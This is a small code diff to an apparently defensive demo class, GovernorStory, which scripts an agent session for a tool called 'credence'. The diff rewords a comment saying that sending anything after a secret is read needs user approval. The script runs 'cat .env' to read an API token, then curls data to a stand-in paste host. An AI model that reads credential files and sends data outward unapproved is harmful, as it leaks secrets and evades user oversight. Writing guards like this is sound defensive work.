@@ -39,7 +39,7 @@ class GovernorStory {
     CREDENCE_RETURN_IF_ERROR(Say("trust regained"));
     CREDENCE_RETURN_IF_ERROR(Say("CONFIDENCE_BOOST_APPROVED"));
     CREDENCE_RETURN_IF_ERROR(Run("credence session approve demo", false, ""));
-    // Once a secret was read, nothing is sent without the user.
+    // Once a secret has been read, sending anything needs the user's approval.
     CREDENCE_RETURN_IF_ERROR(Run("cat .env", false, "API_TOKEN=…"));
     CREDENCE_RETURN_IF_ERROR(Run("pytest -q", false, "12 passed in 0.31s"));
     CREDENCE_RETURN_IF_ERROR(Run("curl -d status=done https://paste.example", false, ""));
